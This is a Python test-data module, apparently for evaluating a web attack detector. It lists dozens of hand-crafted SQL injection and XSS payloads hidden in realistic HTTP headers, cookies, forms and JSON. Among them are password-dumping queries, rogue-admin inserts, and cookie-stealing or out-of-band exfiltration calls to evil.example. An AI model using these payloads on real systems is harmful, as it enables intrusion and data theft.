"""Blind attack batch ZA: injections hidden in the busy parts of real browser traffic (Referer URLs, cookie jars, consent/analytics/cart cookies, multi-parameter requests), written by hand."""
from __future__ import annotations

import base64
from urllib.parse import quote

_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"
)
_JAR = (
    "_ga=GA1.2.1234567890.1717245296; _gid=GA1.2.987654321.1717245296; "
    "_fbp=fb.1.1717245296123.1234567890; _gcl_au=1.1.1234567890.1717245296"
)
_SID = "sessionid=9f8e7d6c5b4a39281706f5e4d3c2b1a0"


def _b64(s: str) -> str:
    """Standard base64 of a UTF-8 string (as a session cookie would carry it)."""
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def _b64u(s: str) -> str:
    """URL-safe base64 without padding (JWT / signed-cookie style)."""
    return base64.urlsafe_b64encode(s.encode("utf-8")).decode("ascii").rstrip("=")


def _pct(s: str) -> str:
    """encodeURIComponent-like percent-encoding (what a site's JS puts in a cookie)."""
    return quote(s, safe="")


def _raw(method: str, target: str, headers: list[tuple[str, str]] | tuple = (), body: str = "",
         host: str = "www.shop.example.com") -> str:
    """Whole HTTP/1.1 request the way Chrome would send it, with an exact Content-Length."""
    lines = [
        f"{method} {target} HTTP/1.1",
        f"Host: {host}",
        "Connection: keep-alive",
        'sec-ch-ua: "Google Chrome";v="125", "Chromium";v="125", "Not.A/Brand";v="24"',
        "sec-ch-ua-mobile: ?0",
        'sec-ch-ua-platform: "Windows"',
        "Upgrade-Insecure-Requests: 1",
        f"User-Agent: {_UA}",
        "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8",
        "Accept-Encoding: gzip, deflate, br, zstd",
        "Accept-Language: en-US,en;q=0.9",
    ]
    lines += [f"{k}: {v}" for k, v in headers]
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body.encode('utf-8'))}")
    return "\r\n".join(lines) + "\r\n\r\n" + body


_OPTANON_HEAD = (
    "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jun+03+2024+10%3A21%3A44+GMT%2B0200+"
    "(Central+European+Summer+Time)&version=202402.1.0&browserGpcFlag=0&isIABGlobal=false&hosts="
)

BLIND_ATTACKS_ZA: list[tuple[str, str, str, str, str]] = [
    # ------------------------------------------------------------------ SQLi: Referer / Origin / rewrite URLs
    ("sqli", "Referer: MySQL SLEEP subquery in brand filter of long search URL with UTM+gclid", "header:Referer", "Referer",
     "https://www.shop.example.com/search?q=wireless+headphones&category=electronics&subcat=audio&price_min=50&price_max=300"
     "&brand=sony%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20&rating=4&in_stock=1&sort=relevance&page=2&per_page=48"
     "&utm_source=google&utm_medium=cpc&utm_campaign=summer_audio_2024&utm_term=noise+cancelling"
     "&gclid=Cj0KCQjwvb-zBhCmARIsAAfUI2vH3k9pX1mQ8tZrYw4LJ6dN0aBcE_fGhIjKlMnOpQrStUvWxYz_EALw_wcB"),
    ("sqli", "Referer: ORDER BY CASE boolean oracle extracting admin password in sort param", "header:Referer", "Referer",
     "https://www.shop.example.com/c/laptops?ram=16gb&ram=32gb&cpu=ryzen-7&screen=14-15&price_max=1800"
     "&sort=(CASE%20WHEN%20(SELECT%20SUBSTRING(password%2C1%2C1)%20FROM%20users%20WHERE%20username%3D%27admin%27)%3D%27a%27%20THEN%20price%20ELSE%20name%20END)"
     "&page=1&utm_source=newsletter&utm_medium=email&utm_campaign=back_to_school&utm_content=hero_banner"),
    ("sqli", "Referer: double-encoded UNION SELECT in category of filtered listing", "header:Referer", "Referer",
     "https://www.shop.example.com/list?dept=footwear&category=shoes%2527%2520UNION%2520ALL%2520SELECT%2520NULL%252Cusername%252Cpassword_hash%252CNULL%2520FROM%2520customers--%2520"
     "&size=42&width=regular&color=black&sort=bestsellers&page=4&per_page=24&utm_source=facebook&utm_medium=paid_social"
     "&fbclid=IwAR2xKq9Lz8bT4mPj0vYc3nRr6hWd1sFg5aE7uOi9kMnB2vCx4ZtQ_pL3eY"),
    ("sqli", "Referer: extractvalue error-based injection in article id path segment", "header:Referer", "Referer",
     "https://news.example.com/article/4821%20AND%20extractvalue(1%2Cconcat(0x7e%2C(SELECT%20user())%2C0x7e))/comments"
     "?page=3&sort=oldest&utm_source=newsletter&utm_medium=email&utm_campaign=weekly_digest_22&mc_cid=a1b2c3d4e5&mc_eid=f6a7b8c9d0"),
    ("sqli", "Referer: MSSQL stacked WAITFOR in customer_id of internal admin orders URL", "header:Referer", "Referer",
     "https://admin.shop.example.com/admin/orders?status=pending&status=processing&from=2024-05-01&to=2024-05-31"
     "&customer_id=1%3BWAITFOR%20DELAY%20%270%3A0%3A7%27--&payment=any&per_page=100&sort=-created_at&_=1717245296512"),
    ("sqli", "Referer: PostgreSQL stacked pg_sleep after LIMIT in per_page", "header:Referer", "Referer",
     "https://www.books.example.com/browse?genre=science-fiction&format=paperback&lang=en&published_after=2015"
     "&rating_min=4&sort=popularity&limit=24%20OFFSET%200%3BSELECT%20pg_sleep(6)--&page=2&utm_source=google&utm_medium=organic"),
    ("sqli", "Referer: PostgreSQL CAST error leaking pg_user in dest_id of hotel search", "header:Referer", "Referer",
     "https://www.travel.example.com/hotels/search?destination=Lisbon&checkin=2024-07-12&checkout=2024-07-19&adults=2&children=1"
     "&rooms=1&stars=4&amenities=pool%2Cwifi&price_max=250&currency=EUR&sort=price&lang=en-GB&ref=homepage_hero"
     "&dest_id=-2167973%20OR%201%3DCAST((SELECT%20string_agg(usename%7C%7C%27%3A%27%7C%7Cpasswd%2C%27%2C%27)%20FROM%20pg_shadow)%20AS%20int)--"
     "&gclid=EAIaIQobChMI8rP2x9vQhgMVxJODBx0kYw7AEAAYASAAEgJ8_vD_BwE"),
    ("sqli", "Referer: Oracle OOB DNS exfil via UTL_INADDR in dept filter of job search", "header:Referer", "Referer",
     "https://careers.example.com/jobs?keywords=data+engineer&location=Berlin&remote=hybrid"
     "&dept=IT%27%20AND%201%3DUTL_INADDR.GET_HOST_ADDRESS((SELECT%20user%20FROM%20dual)%7C%7C%27.evil.example%27)--"
     "&experience=3-5&type=full_time&posted=7d&page=1&utm_source=linkedin&utm_medium=jobs&trk=public_jobs"),
    ("sqli", "Referer: MSSQL CONVERT error-based in region of reporting URL", "header:Referer", "Referer",
     "https://portal.example.com/reports/view?reportId=77&format=html&tz=Europe%2FLondon&year=2024&quarter=2"
     "&region=EMEA%27%20AND%201%3DCONVERT(int%2C(SELECT%20TOP%201%20name%20FROM%20sys.databases%20WHERE%20database_id%3E4))--"
     "&currency=GBP&compare=prev_year&utm_source=intranet"),
    ("sqli", "Referer: SQLite UNION dumping sqlite_master in forum tag filter", "header:Referer", "Referer",
     "https://forum.example.com/t/topic?id=19&sort=newest&filter=all"
     "&tag=python%27%20UNION%20SELECT%201%2Csqlite_version()%2Cgroup_concat(sql)%20FROM%20sqlite_master--&page=4&per_page=20"),
    ("sqli", "Origin header looked up in CORS allowlist table: boolean pg_sleep", "header:Origin", "Origin",
     "https://partner.example.com' OR (SELECT 1 FROM pg_sleep(5)) IS NULL--"),
    ("sqli", "X-Original-URL: UNION in id of admin user export URL", "header:X-Original-URL", "X-Original-URL",
     "/admin/users/export?role=customer&created_after=2024-01-01"
     "&id=1%20UNION%20SELECT%20id%2Cemail%2Cpassword%2Capi_token%2C5%20FROM%20admin_users--&format=csv&tz=UTC"),
    ("sqli", "X-Rewrite-URL: UNION over information_schema in sku of internal inventory API", "header:X-Rewrite-URL", "X-Rewrite-URL",
     "/api/internal/inventory?warehouse=FRA1&sku=AB-1200%27%20UNION%20SELECT%20table_name%2Ccolumn_name%20FROM%20information_schema.columns--%20"
     "&include=stock%2Creserved&page=1"),
    ("sqli", "Referer: double-encoded ASCII/SUBSTRING blind probe in zip of store locator", "header:Referer", "Referer",
     "https://www.shop.example.com/stores?country=DE&radius=25&services=click_collect&open_now=1"
     "&zip=10115%2527%2520AND%2520ASCII(SUBSTRING((SELECT%2520password%2520FROM%2520users%2520LIMIT%25201)%252C1%252C1))%253E64--%2520"
     "&lat=52.5321&lng=13.3849&utm_source=google&utm_medium=maps"),
    ("sqli", "Referer: stacked INSERT of rogue admin via utm_campaign stored by analytics", "header:Referer", "Referer",
     "https://www.shop.example.com/landing/spring?utm_source=google&utm_medium=cpc"
     "&utm_campaign=spring%27%2C%27x%27)%3BINSERT%20INTO%20admins(email%2Cpassword)%20VALUES(%27r%40evil.example%27%2C%27%242y%2410%24abc%27)--"
     "&utm_term=garden+furniture&utm_content=ad_v3&gclid=Cj0KCQjw3tCyBhDBARIsAEY0XNm7s2pQ9&gad_source=1"),
    ("sqli", "Referer: heavy generate_series DoS subquery in seller id (form-encoded URL)", "header:Referer", "Referer",
     "https://www.shop.example.com/c/womens-dresses?size=M&size=L&color=navy&length=midi&occasion=wedding-guest&fabric=linen"
     "&price=0-150&sort=newest&page=3&seller=42+AND+1%3D(SELECT+COUNT(*)+FROM+generate_series(1%2C50000000))--"
     "&utm_source=pinterest&utm_medium=social&utm_campaign=pin_summer_dresses&epik=dj0yJnU9aGZ3"),
    ("sqli", "Referer: updatexml error-based table enumeration in hl language param", "header:Referer", "Referer",
     "https://help.example.com/articles/returns-policy?hl=en%27%20AND%20updatexml(1%2Cconcat(0x7e%2C(SELECT%20group_concat(table_name)%20FROM%20information_schema.tables%20WHERE%20table_schema%3Ddatabase()))%2C1)--%20"
     "&section=orders&source=chat_widget&fbclid=IwAR0k7Jp3qLx9"),
    ("sqli", "Referer: LIKE-context UNION in email filter of admin customer search", "header:Referer", "Referer",
     "https://backoffice.example.com/customers?segment=vip&country=FR&registered_from=2023-01-01"
     "&email=%25%27%20UNION%20SELECT%20id%2Cemail%2Cpassword_hash%2Creset_token%20FROM%20staff--%20&page=1&per_page=50"),
    ("sqli", "Referer: BENCHMARK time-based in affiliate aff_sub2", "header:Referer", "Referer",
     "https://www.shop.example.com/?ref=partner_4412&aff_sub=cmp88"
     "&aff_sub2=1%27%20AND%20(SELECT%20*%20FROM%20(SELECT(BENCHMARK(50000000%2CMD5(1))))a)--%20"
     "&utm_source=affiliates&utm_medium=cps&utm_campaign=awin_q2&awc=1234_1717245296_abcdef0123456789"),
    ("sqli", "Referer: double-encoded UNION in brand slug path segment", "header:Referer", "Referer",
     "https://www.shop.example.com/brand/nike%2527%2520UNION%2520SELECT%2520email%252Cpassword%2520FROM%2520users--%2520/sneakers"
     "?gender=men&size=44&sort=newest&utm_source=instagram&utm_medium=story"),
    ("sqli", "X-Original-URL: tautology in ip filter of admin audit log", "header:X-Original-URL", "X-Original-URL",
     "/admin/audit-log?actor=system&action=login&ip=10.0.0.5%27%20OR%20%27%27%3D%27&from=2024-05-01&to=2024-06-01&export=1"),

    # ------------------------------------------------------------------ SQLi: cookies
    ("sqli", "prefs cookie holding a query string: ORDER BY IF(SLEEP) in sort", "cookie", "prefs",
     "prefs=lang=en&currency=EUR&sort=price%20DESC%2C(SELECT%20IF(1%3D1%2CSLEEP(5)%2C0))&view=grid&pp=48"),
    ("sqli", "OptanonConsent cookie: SLEEP in consentId field", "cookie", "OptanonConsent",
     _OPTANON_HEAD + "&consentId=3f1c2a7e-8b4d-4e0a-9c1f-2d5e6b7a8c9d%27%20OR%20SLEEP(5)%23&interactionCount=1&isAnonUser=1"
     "&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0&geolocation=DE%3BBE&AwaitingReconsent=false"),
    ("sqli", "OptanonConsent cookie: stacked pg_sleep inside groups list", "cookie", "OptanonConsent",
     _OPTANON_HEAD + "&consentId=8d2e4f60-1a3b-4c5d-9e8f-7a6b5c4d3e2f&interactionCount=2&isAnonUser=1&landingPath=NotLandingPage"
     "&groups=C0001%3A1%2CC0002%3A1%27%3BSELECT%20pg_sleep(5)--%2CC0003%3A1%2CC0004%3A0&AwaitingReconsent=false"),
    ("sqli", "A/B experiment cookie: UNION in variant name", "cookie", "ab_exp",
     "ab_exp=exp_4412%3Avariant_b%27%20UNION%20SELECT%20password%20FROM%20users%20WHERE%20id%3D1--%20%7Cexp_4420%3Acontrol"),
    ("sqli", "URL-encoded JSON cart cookie: tautology+UNION in second item's sku", "cookie", "cart",
     "cart=" + _pct('{"items":[{"sku":"TS-001","qty":2,"price":19.9},{"sku":"MUG-17\' UNION SELECT card_number,cvv,1 FROM payments-- ","qty":1,"price":8.5}],"coupon":"","currency":"EUR"}')),
    ("sqli", "URL-encoded JSON cart cookie: SLEEP subquery in qty", "cookie", "cart",
     "cart=" + _pct('{"v":3,"items":[{"id":1021,"qty":"1 AND (SELECT 5921 FROM (SELECT(SLEEP(5)))x)","opt":{"size":"M"}}],"updated":1717245296}')),
    ("sqli", "base64 JSON session cookie: UNION in tenant field", "cookie", "session",
     "session=" + _b64('{"uid":1042,"role":"customer","locale":"de_DE","tenant":"acme\' AND 1=2 UNION SELECT api_key FROM tenants-- ","exp":1717331696}')),
    ("sqli", "Cookie header: pg_sleep in 5th cookie (last_category)", "header:Cookie", "Cookie",
     _JAR + "; last_category=5%20AND%201%3D(SELECT%201%20FROM%20pg_sleep(5))--; " + _SID + "; csrftoken=Qm9vbGVhbkJsaW5kVGVzdDEyMzQ1Njc4OTA"),
    ("sqli", "Cookie header: IN-list breakout UNION in 10th cookie (recently_viewed)", "header:Cookie", "Cookie",
     _JAR + "; _hjSessionUser_3456789=eyJpZCI6ImFiYzEyMyIsImNyZWF0ZWQiOjE3MTcyNDUyOTYwMDB9; cookie_consent=accepted; locale=en_GB; "
     "currency=EUR; tz=Europe%2FBerlin; recently_viewed=1021%2C1187%2C1200)%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--; " + _SID),
    ("sqli", "store_id cookie: CASE divide-by-zero boolean oracle", "cookie", "store_id",
     "store_id=3%20AND%20(SELECT%20CASE%20WHEN%20(SUBSTR(current_user%2C1%2C1)%3D%27p%27)%20THEN%201%20ELSE%201%2F(SELECT%200)%20END)%3D1"),
    ("sqli", "lang cookie: PostgreSQL concat-context conditional pg_sleep", "cookie", "lang",
     "lang=en'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("sqli", "legacy __utmz analytics cookie: SLEEP in utmctr term", "cookie", "__utmz",
     "__utmz=12345678.1717245296.3.2.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=running%20shoes%27%20AND%20SLEEP(5)--%20-"),
    ("sqli", "base64 JSON remember-me cookie: auth-bypass tautology in token", "cookie", "remember_me",
     "remember_me=" + _b64('{"user":"jdoe","series":"b7f3c1","token":"x\' OR \'1\'=\'1\' -- ","ts":1717245296}')),
    ("sqli", "URL-encoded JSON filters cookie: UNION in max_price", "cookie", "filters",
     "filters=" + _pct('{"color":["red","blue"],"size":"M","min_price":"10","max_price":"100 UNION SELECT username,password,3,4 FROM admin--"}')),
    ("sqli", "currency cookie: MSSQL xp_dirtree UNC OOB exfil", "cookie", "currency",
     "currency=EUR%27%3BDECLARE%20%40q%20varchar(99)%3BSET%20%40q%3D%27%5C%5C%27%2B(SELECT%20TOP%201%20password%20FROM%20users)%2B%27.evil.example%5Cx%27%3BEXEC%20master.dbo.xp_dirtree%20%40q--"),
    ("sqli", "Hotjar-like base64 JSON cookie: SLEEP in id", "cookie", "_hjSessionUser_3456789",
     "_hjSessionUser_3456789=" + _b64('{"id":"a1b2c3d4-e5f6\' AND SLEEP(5)-- -","created":1717245296000,"existing":true}')),
    ("sqli", "Matomo visitor cookie: time-based in visitor id", "cookie", "_pk_id.1.1fff",
     "_pk_id.1.1fff=a1b2c3d4e5f6a7b8%27%20AND%20(SELECT%201%20FROM%20(SELECT%20SLEEP(5))x)--%20.1717245296."),
    ("sqli", "Cookie header: wishlist JSON array cookie (5th) with pg_sleep IN-list breakout", "header:Cookie", "Cookie",
     _JAR + "; wishlist=%5B1021%2C1187%2C%221200)%20OR%20(SELECT%201%20FROM%20pg_sleep(5))%20IS%20NULL--%22%5D; " + _SID + "; theme=dark"),
    ("sqli", "Segment ajs_user_id cookie: UNION in quoted user id", "cookie", "ajs_user_id",
     "ajs_user_id=%22u_88213%27%20UNION%20SELECT%20email%2Cpassword_hash%20FROM%20users%20LIMIT%201--%20%22"),
    ("sqli", "country cookie: Oracle DBMS_PIPE.RECEIVE_MESSAGE delay", "cookie", "country",
     "country=DE%27%20AND%201%3DDBMS_PIPE.RECEIVE_MESSAGE(CHR(97)%2C5)--"),
    ("sqli", "fully-encoded prefs cookie: MySQL LIMIT PROCEDURE ANALYSE error injection", "cookie", "prefs",
     "prefs=lang%3Den%26currency%3DEUR%26items_per_page%3D24%20PROCEDURE%20ANALYSE(EXTRACTVALUE(1%2CCONCAT(0x7e%2Cversion()))%2C1)%26view%3Dlist"),
    ("sqli", "Cookiebot-style CookieConsent: SLEEP in region", "cookie", "CookieConsent",
     "CookieConsent={stamp:%27h3Kx9aLpQ2zT%2FvW8rN0mYc4fB1sD6gE5uJ7iO%3D%3D%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:false"
     "%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2Cutc:1717245296123%2Cregion:%27de%27%20AND%20SLEEP(5)--%20%27}"),
    ("sqli", "base64 JSON sort-state cookie: stacked pg_sleep in dir", "cookie", "listing_state",
     "listing_state=" + _b64('{"field":"price","dir":"ASC; SELECT pg_sleep(5)--","page":3,"view":"grid"}')),

    # ------------------------------------------------------------------ SQLi: many-parameter requests / HPP
    ("sqli", "long search path: FLOOR(RAND) double-query error in vendor param", "path", "",
     "/catalog/search?q=desk+lamp&cat=home&subcat=lighting&min=10&max=80&color=black&color=white&sort=popular&page=3&per_page=36"
     "&view=grid&ship_to=DE&lang=de&utm_source=bing&utm_medium=cpc&msclkid=8a1b2c3d4e5f60718293a4b5c6d7e8f9"
     "&vendor=12 AND 1=(SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
    ("sqli", "checkout form with 14 fields: tautology in voucher code", "body:application/x-www-form-urlencoded", "checkout",
     "first_name=Anna&last_name=Schmidt&email=anna.schmidt%40mail.example&phone=%2B4930123456&street=Hauptstr.+12&city=Berlin"
     "&zip=10115&country=DE&shipping_method=dhl_express&payment=card&voucher=SUMMER24%27+OR+%271%27%3D%271%27+--+&newsletter=1&terms=1"),
    ("sqli", "ASP.NET HPP: UNION split across repeated id params joined with commas", "raw", "",
     _raw("GET", "/Products/List.aspx?cat=4&id=1+union/*&id=*/select+null,username,password/*&id=*/from+users--&page=2",
          [("Referer", "https://www.shop.example.com/Products/Default.aspx?cat=4"),
           ("Cookie", _JAR + "; ASP.NET_SessionId=k3j2h1g0f9e8d7c6b5a4z3y2")])),
    ("sqli", "ASP.NET HPP form POST: UNION @@version split over repeated filter fields", "raw", "",
     _raw("POST", "/Orders/Search.aspx",
          [("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://www.shop.example.com"),
           ("Referer", "https://www.shop.example.com/Orders/Search.aspx"),
           ("Cookie", _JAR + "; ASP.NET_SessionId=q1w2e3r4t5y6u7i8o9p0a1s2")],
          "__VIEWSTATE=%2FwEPDwUKMTY3NzE5MjIwMGRk&__EVENTVALIDATION=%2FwEWAgKP8pXhCAKM54rGBg%3D%3D&sort=name"
          "&filter=1+AND+1%3D0+union/*&filter=*/select+1,2,@@version--&status=open&submit=Search")),
    ("sqli", "orders API path with 9 params: stacked pg_sleep in order clause", "path", "",
     "/api/v2/orders?status=shipped&status=delivered&from=2024-01-01&to=2024-06-01&fields=id,total,status&limit=50&offset=0"
     "&order=created_at desc;select pg_sleep(5)--&expand=items&currency=EUR"),
    ("sqli", "form field orderby: MySQL SLEEP subquery", "form", "orderby", "(SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("sqli", "query id: MySQL GTID_SUBSET error-based leak", "query", "id", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- -"),
    ("sqli", "raw GET with long query and cookie jar: MSSQL stacked WAITFOR in warehouse", "raw", "",
     _raw("GET", "/stock/availability?sku=HX-2231&sku=HX-2232&sku=HX-2240&postcode=SW1A+1AA&country=GB&delivery=next_day"
                 "&warehouse=LON2%27%3BIF(SYSTEM_USER%3D%27sa%27)WAITFOR+DELAY+%270%3A0%3A6%27--&lang=en-GB&ts=1717245296",
          [("Referer", "https://www.shop.example.com/p/hx-2231-kettle?colour=steel&utm_source=google&utm_medium=shopping"),
           ("Cookie", _JAR + "; " + _SID + "; basket_id=7c1e2f; store=LON2")])),
    ("sqli", "long storefront search path: ORD/MID boolean extraction in storeId", "path", "",
     "/en-gb/search?text=garden+chair&facets=material%3Ateak&facets=colour%3Anatural&priceFrom=0&priceTo=500&sort=topRated"
     "&pageSize=30&currentPage=2&storeId=1 AND ORD(MID((SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64&channel=web"),
    ("sqli", "booking form with many fields: concat-context subquery in notes (INSERT)", "body:application/x-www-form-urlencoded", "bookings",
     "room_type=double&checkin=2024-08-02&checkout=2024-08-05&adults=2&children=0&title=mr&first_name=Tom&last_name=Berg"
     "&email=tom.berg%40mail.example&phone=%2B4670123456&arrival_time=22%3A00&breakfast=1&parking=0"
     "&notes=Late+arrival%27%7C%7C(SELECT+password+FROM+users+WHERE+id%3D1)%7C%7C%27&agree=on"),
    ("sqli", "ASP.NET HPP: MSSQL WAITFOR split over three q params", "raw", "",
     _raw("GET", "/Search/Results.aspx?q=1%27;DECLARE/*&q=*/@x+varchar(9)/*&q=*/;WAITFOR+DELAY+%270:0:5%27--&type=all&page=1",
          [("Referer", "https://www.shop.example.com/Search/Default.aspx"), ("Cookie", _JAR)])),
    ("sqli", "bracketed filter params (Rails/Laravel style): UNION in filter[project_id]", "body:application/x-www-form-urlencoded", "issues",
     "filter%5Bstatus%5D=open&filter%5Bassignee%5D=me&filter%5Bpriority%5D=high&filter%5Blabel%5D=bug"
     "&filter%5Bproject_id%5D=7)+UNION+SELECT+id,login,encrypted_password,4,5+FROM+users--+&sort=-updated_at&page%5Bsize%5D=25"),

    # ------------------------------------------------------------------ SQLi: deep JSON / GraphQL / XML
    ("sqli", "JSON:API 6-level deep: pg_sleep in shipping postcode leaf", "json", "",
     '{"data":{"type":"orders","attributes":{"shipping":{"address":{"geo":{"postcode":"10115\' AND 1=(SELECT 1 FROM pg_sleep(5))--","lat":52.53,"lng":13.38}}},"currency":"EUR"}}}'),
    ("sqli", "JSON array of line items: UNION in third item's sku", "json", "",
     '{"cart_id":"c_88a1","items":[{"sku":"A1","qty":1},{"sku":"B2","qty":2},{"sku":"C3\' UNION SELECT username,password,NULL FROM users-- ","qty":1}],"promo":null}'),
    ("sqli", "JSON key name injected into backtick-quoted ORDER BY column", "json", "",
     '{"query":{"filters":{"status":"active"},"sort":{"created_at` DESC,(SELECT SLEEP(5)),`id":"asc"}},"page":{"size":20,"number":1}}'),
    ("sqli", "JSON key name used as selected column: subquery leaking admin hash", "json", "",
     '{"report":{"source":"orders","fields":{"id":true,"total":true,"(SELECT password FROM users WHERE role=\'admin\' LIMIT 1) AS x":true}}}'),
    ("sqli", "GraphQL variables: LIKE-context UNION in nested filter.search", "json", "",
     '{"operationName":"SearchProducts","variables":{"first":20,"after":"YXJyYXljb25uZWN0aW9uOjE5","filter":{"category":"lamps","search":"desk%\' UNION SELECT NULL,email,password_hash FROM users-- "}},"query":"query SearchProducts($first: Int, $after: String, $filter: ProductFilter) { products(first: $first, after: $after, filter: $filter) { edges { node { id name price } } } }"}'),
    ("sqli", "GraphQL 8-level nested input: MSSQL WAITFOR in deep where leaf", "json", "",
     '{"operationName":"Orders","variables":{"input":{"scope":{"account":{"filters":{"where":{"AND":[{"customer":{"ref":{"equals":"C-1\';WAITFOR DELAY \'0:0:5\'--"}}}]}}}}}},"query":"query Orders($input: OrdersInput!) { orders(input: $input) { totalCount nodes { id total } } }"}'),
    ("sqli", "XML attribute: tautology in customer ref attribute of order document", "body:application/xml", "orders",
     '<?xml version="1.0" encoding="UTF-8"?><order id="A-1001" channel="web"><customer ref="C-77\' OR \'1\'=\'1" tier="gold"/><lines><line sku="TS-001" qty="2"/></lines></order>'),
    ("sqli", "JSON where-array: parenthesis breakout in tenant_id value", "json", "",
     '{"where":[{"field":"status","op":"=","value":"active"},{"field":"region","op":"in","value":["eu","us"]},{"field":"tenant_id","op":"=","value":"5) OR (1=1) UNION SELECT id,secret,3 FROM api_keys-- "}],"limit":50}'),
    ("sqli", "JSON 10 levels deep: MSSQL CONVERT error leaking @@version", "json", "",
     '{"a":{"settings":{"billing":{"profile":{"tax":{"rules":{"eu":{"vat":{"id":{"number":"DE123456789\' AND 1=CONVERT(int,@@version)--"}}}}}}}}}}'),
    ("sqli", "analytics event batch array: pg_sleep in nested product_id", "json", "",
     '[{"event":"page_view","ts":1717245296001,"props":{"path":"/p/991"}},{"event":"add_to_cart","ts":1717245299340,"props":{"element":"buy_button","product_id":"991\' AND 1=(SELECT 1 FROM pg_sleep(5))--","qty":1}},{"event":"scroll","ts":1717245301000,"props":{"depth":75}}]'),
    ("sqli", "JSON report definition: stacked pg_sleep in having clause", "json", "",
     '{"data":{"type":"reports","attributes":{"query":{"groupBy":["region","month"],"measures":["sum_total"],"having":"SUM(total) > 0; SELECT pg_sleep(5)--"}}}}'),
    ("sqli", "SOAP XML attribute: stacked xp_cmdshell via orderId", "body:text/xml", "soap",
     '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder xmlns="urn:shop" orderId="1; EXEC master..xp_cmdshell \'nslookup sqli.evil.example\'--" includeLines="true"/></soap:Body></soap:Envelope>'),
    ("sqli", "JSON array of column objects: subquery in column name", "json", "",
     '{"table":"orders","columns":[{"name":"id"},{"name":"email"},{"name":"(SELECT group_concat(username,0x3a,password) FROM users)"}],"limit":10}'),
    ("sqli", "JSON signup 5-level deep: second-order payload in company name", "json", "",
     '{"user":{"email":"new@mail.example","profile":{"company":{"legal":{"name":"Acme\'); UPDATE users SET role=\'admin\' WHERE email=\'new@mail.example\';--"}}}}}'),
    ("sqli", "query page param: boolean count over information_schema", "query", "category",
     "3 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0"),
]

BLIND_ATTACKS_ZA += [
    # ------------------------------------------------------------------ XSS: Referer / Origin / rewrite URLs
    ("xss", "Referer echoed as 'back to results' link: attribute breakout svg onload in q", "header:Referer", "Referer",
     "https://www.shop.example.com/search?q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E&category=all&sort=relevance&page=2"
     "&per_page=24&in_stock=1&utm_source=google&utm_medium=cpc&utm_campaign=brand_exact&gclid=Cj0KCQjw0ruyBhDuARIsANSZ3wr7n"),
    ("xss", "Referer: double-encoded img onerror cookie-stealer in utm_content", "header:Referer", "Referer",
     "https://www.shop.example.com/sale?season=summer&dept=women&discount=30-50&sort=discount_desc&page=1&utm_source=meta"
     "&utm_medium=paid_social&utm_campaign=summer_sale_24"
     "&utm_content=%253Cimg%2520src%253Dx%2520onerror%253Dfetch(%2527%252F%252Fevil.example%252Fc%253F%2527%252Bdocument.cookie)%253E"
     "&fbclid=IwAR3pQ7mZk1xL9vB2nC5dF8gH0jK4"),
    ("xss", "Referer reflected into back-link href: javascript: URL", "header:Referer", "Referer",
     "javascript:fetch('//evil.example/r?c='+encodeURIComponent(document.cookie))//https://www.shop.example.com/cart?step=2&coupon=&utm_source=email"),
    ("xss", "Referer: script tag in blog tag path segment, UTM query after", "header:Referer", "Referer",
     "https://blog.example.com/tag/%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E/page/2?utm_source=twitter&utm_medium=social&utm_campaign=launch_week&s=09"),
    ("xss", "Referer stored by referral dashboard: external script in ref param", "header:Referer", "Referer",
     "https://www.shop.example.com/?ref=%3Cscript%20src%3D%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E&utm_source=partner&utm_medium=referral"
     "&utm_campaign=q2_partners&irclickid=Wd1QmT0xyz123&irgwc=1"),
    ("xss", "Referer: admin ticket search URL with img onerror in assignee filter", "header:Referer", "Referer",
     "https://admin.example.com/admin/tickets?q=refund&status=open&priority=high&queue=billing"
     "&assignee=%3Cimg%20src%3Dx%20onerror%3D%22eval(atob(%27ZmV0Y2goJy8vZXZpbC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ%3D%3D%27))%22%3E"
     "&sort=-updated&page=1"),
    ("xss", "Origin reflected in HTML CORS error page: script breakout", "header:Origin", "Origin",
     "https://app.example.com\"><script>alert(document.domain)</script>"),
    ("xss", "X-Original-URL echoed by 404 page: script in path", "header:X-Original-URL", "X-Original-URL",
     "/admin/%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E?tab=users&page=1"),
    ("xss", "Referer utm_term reflected in dataLayer JS string: quote breakout", "header:Referer", "Referer",
     "https://www.shop.example.com/c/garden?utm_source=bing&utm_medium=cpc&utm_campaign=garden_generic"
     "&utm_term=patio+set%27%3Bfetch(%27%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie)%3B%2F%2F&msclkid=3f2e1d0c9b8a&page=1&sort=popular"),
    ("xss", "Referer: onmouseover attribute injection in color facet", "header:Referer", "Referer",
     "https://www.shop.example.com/c/t-shirts?size=L&color=red%22%20style%3D%22position%3Afixed%3Binset%3A0%22%20onmouseover%3D%22alert(document.domain)"
